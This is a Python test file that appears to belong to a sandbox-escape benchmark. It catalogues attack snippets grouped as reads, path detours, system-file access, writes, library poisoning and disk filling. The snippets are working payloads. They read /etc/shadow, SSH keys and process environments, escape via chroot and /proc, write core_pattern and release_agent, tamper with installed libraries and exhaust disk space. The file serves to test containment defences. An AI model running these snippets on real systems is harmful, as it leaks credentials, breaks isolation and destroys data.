"""Attacks on files: reading what is outside, changing it, reaching it by detours, filling the disk."""

from experiments.bench.attacks.attack import table

# A canary's text that appears in a program's output is an escape, so reading attacks print what they read.
_READ = table("read a file", {
    "open": "print(open('{canary}').read())",
    "open binary, unbuffered": "print(open('{canary}', 'rb', 0).read())",
    "os.open": "import os\nprint(os.read(os.open('{canary}', os.O_RDONLY), 999))",
    "O_PATH, then by the folder": "import os\nprint(os.listdir(os.open('{folder}', os.O_PATH)))",
    "pathlib": "import pathlib\nprint(pathlib.Path('{canary}').read_text())",
    "mmap": "import mmap\nprint(mmap.mmap(open('{canary}').fileno(), 0, prot=mmap.PROT_READ)[:])",
    "linecache": "import linecache\nprint(linecache.getlines('{canary}'))",
    "tokenize": "import tokenize\nprint(tokenize.open('{canary}').read())",
    "runpy": "import runpy\nrunpy.run_path('{canary}')",
    "importlib loader": "import importlib.machinery as m\nprint(m.SourceFileLoader('x', '{canary}').get_data('{canary}'))",
    "fileinput": "import fileinput\nprint(list(fileinput.input('{canary}')))",
    "shutil.copy into the own folder": "import shutil\nshutil.copyfile('{canary}', 'x')\nprint(open('x').read())",
    "urllib file url": "import urllib.request\nprint(urllib.request.urlopen('file://{canary}').read())",
    "configparser": "import configparser\nprint(configparser.ConfigParser().read_file(open('{canary}')))",
    "array.fromfile": "import array\na = array.array('b')\na.fromfile(open('{canary}', 'rb'), 20)\nprint(a.tobytes())",
    "ctypes fopen": """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.fopen.restype = libc.fgets.restype = ctypes.c_void_p
        libc.fgets.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_void_p]
        buffer = ctypes.create_string_buffer(200)
        file = libc.fopen(b'{canary}', b'r')
        if file: libc.fgets(buffer, 199, file)
        print(buffer.value)""",
})  # fmt: skip

_DETOURS = table("a detour to a file", {
    "dots": "print(open('../' * 20 + '{canary}'.lstrip('/')).read())",
    "dots through the library": "import os, math, sympy\nprint(open(os.path.dirname(sympy.__file__) + '/..' * 30 + '{canary}').read())",
    "symlink": "import os\nos.symlink('{canary}', 'x')\nprint(open('x').read())",
    "hard link": "import os\nos.link('{canary}', 'x')\nprint(open('x').read())",
    "rename into the own folder": "import os\nos.rename('{canary}', 'x')\nprint(open('x').read())",
    "/proc/self/root": "print(open('/proc/self/root{canary}').read())",
    "/proc/1/root": "print(open('/proc/1/root{canary}').read())",
    "/proc/self/cwd": "print(open('/proc/self/cwd/..' + '{canary}').read())",
    "the library's own root by /proc": "print(open('/proc/{library}/root{canary}').read())",
    "the zygote's root by /proc": "print(open('/proc/{zygote}/root{canary}').read())",
    "a descriptor of the zygote by /proc": "import os\nfor n in range(40):\n    try: print(os.listdir(f'/proc/{zygote}/fd/{n}'))\n    except OSError as e: pass",
    "every open descriptor as a folder": """
        import os
        for n in range(64):
            try: print(os.open('{canary}'.lstrip('/'), os.O_RDONLY, dir_fd=n)); found = True
            except OSError: pass
            try: os.fchdir(n); print(open('..' + '{canary}').read())
            except OSError: pass""",
    "chroot and out again": "import os\nos.mkdir('j')\nos.chroot('j')\nfor _ in range(99): os.chdir('..')\nos.chroot('.')\nprint(open('{canary}').read())",
    "list the root": "import os\nprint(os.listdir('/'), os.listdir('{folder}'))",
    "walk everything": "import os\nfound = [f for d, _, fs in os.walk('/') for f in fs if f == 'canary.txt']",
    "glob": "import glob\nfound = glob.glob('{folder}/*') + glob.glob('/home/*') + glob.glob('/etc/*')",
}, reached="bool(globals().get('found'))")  # fmt: skip

_SYSTEM = table("a file of the system", {
    "/etc/passwd": "x = open('/etc/passwd').read()",
    "/etc/shadow": "x = open('/etc/shadow').read()",
    "/etc/hosts by os.open": "import os\nx = os.open('/etc/hosts', os.O_RDONLY)",
    "own environment": "x = open('/proc/self/environ').read()",
    "own memory map": "x = open('/proc/self/maps').read()",
    "own memory, to write": "x = open('/proc/self/mem', 'r+b')",
    "the library's environment": "x = open('/proc/{library}/environ').read(); print(x)",
    "the library's memory": "x = open('/proc/{library}/mem', 'rb')",
    "the library's command line": "x = open('/proc/{library}/cmdline').read()",
    "the zygote's memory": "x = open('/proc/{zygote}/mem', 'r+b')",
    "the zygote's map": "x = open('/proc/{zygote}/maps').read()",
    "every process's environment": "import os\nx = [open(f'/proc/{n}/environ').read() for n in os.listdir('/proc') if n.isdigit()]",
    "/dev/mem": "x = open('/dev/mem', 'rb')",
    "/dev/kmsg": "x = open('/dev/kmsg', 'rb')",
    "/dev/tty": "x = open('/dev/tty', 'w')",
    "/dev/vda": "x = open('/dev/vda', 'rb')",
    "/dev/shm": "x = open('/dev/shm/{shm}').read(); print(x)",
    "/dev/ptmx": "import os\nx = os.open('/dev/ptmx', os.O_RDWR)",
    "/sys": "import os\nx = os.listdir('/sys')",
    "kernel settings": "x = open('/proc/sys/kernel/core_pattern', 'w')",
    "release agent": "x = open('/sys/fs/cgroup/release_agent', 'w')",
    "sysrq": "x = open('/proc/sysrq-trigger', 'w')",
    "docker socket": "import os\nx = os.stat('/var/run/docker.sock')",
    "ssh keys": "import pathlib\nx = [p.read_text() for p in pathlib.Path('~/.ssh').expanduser().iterdir()]",
    "cpu list": "x = open('/proc/cpuinfo').read()",
}, reached="bool(x)")  # fmt: skip

_WRITE = table("change a file", {
    "overwrite": "open('{target}', 'w').write('x')",
    "append": "open('{target}', 'a').write('x')",
    "read and write": "f = open('{target}', 'r+')\nf.write('x')",
    "truncate": "import os\nos.truncate('{target}', 0)",
    "unlink": "import os\nos.unlink('{target}')",
    "rename over": "import os\nopen('x', 'w').write('x')\nos.replace('x', '{target}')",
    "chmod": "import os\nos.chmod('{target}', 0)",
    "chown": "import os\nos.chown('{target}', 65534, 65534)",
    "utime": "import os\nos.utime('{target}', (0, 0))",
    "extended attribute": "import os\nos.setxattr('{target}', 'user.x', b'x')",
    "a new file": "open('{folder}/new', 'w')",
    "a new folder": "import os\nos.mkdir('{folder}/new')",
    "a new fifo": "import os\nos.mkfifo('{folder}/new')",
    "a new socket": "import socket\nsocket.socket(socket.AF_UNIX).bind('{folder}/new')",
    "into a pipe outside": "import os\nos.write(os.open('{fifo}', os.O_WRONLY | os.O_NONBLOCK), b'x')",
    "a temporary file": "import tempfile\nf = tempfile.NamedTemporaryFile(dir='/tmp', delete=False)",
    "a temporary file in memory": "f = open('/dev/shm/x', 'w')",
    "a device": "import os, stat\nos.mknod('x', 0o600 | stat.S_IFBLK, os.makedev(254, 0))\nf = open('x', 'rb')",
    "a setuid program": "import os\nopen('x', 'w').write('x')\nos.chmod('x', 0o4755)",
    "remove a tree": "import shutil\nshutil.rmtree('{folder}')",
}, reached="True")  # fmt: skip

_LIBRARIES = table("poison a library", {
    "sympy itself": "import sympy\nopen(sympy.__file__, 'a').write('poison')",
    "a module of the standard library": "import os\nopen(os.__file__, 'a').write('poison')",
    "a new module": "import os, sympy\nopen(os.path.dirname(sympy.__file__) + '/poison.py', 'w')",
    "a compiled file": "import os, math\nimport calendar\nopen(calendar.__cached__, 'wb').write(b'x')",
    "a .pth file": "import os, sympy\nopen(os.path.dirname(os.path.dirname(sympy.__file__)) + '/x.pth', 'w')",
    "remove a module": "import os, sympy.sets\nos.unlink(sympy.sets.__file__)",
    "rename a folder": "import os, sympy.sets\nd = os.path.dirname(sympy.sets.__file__)\nos.rename(d, d + '2')",
    "make it writable": "import os, sympy\nos.chmod(sympy.__file__, 0o777)",
}, reached="True")  # fmt: skip

_FILL = table("fill the disk", {
    "one large file": "f = open('x', 'wb')\nwhile True: f.write(bytes(1 << 20))",
    "many files": "n = 0\nwhile True:\n    open(str(n), 'wb').write(bytes(5000)); n += 1",
    "many empty files": "for n in range(10**5): open(str(n), 'w').close()",
    "deep folders": "import os\nfor n in range(10**5): os.mkdir('d'); os.chdir('d')",
    "a sparse file": "import os\nf = open('x', 'wb')\nf.truncate(1 << 45)",
    "a file by seeking": "f = open('x', 'wb')\nf.seek(1 << 45)\nf.write(b'x')\nf.flush()",
    "unlinked but open": "import os\nkept = []\nwhile True:\n    f = open('x', 'wb'); os.unlink('x'); f.write(bytes(1 << 20)); f.flush(); kept.append(f)",
}, reached="True")  # fmt: skip

ATTACKS = (*_READ, *_DETOURS, *_SYSTEM, *_WRITE, *_LIBRARIES, *_FILL)
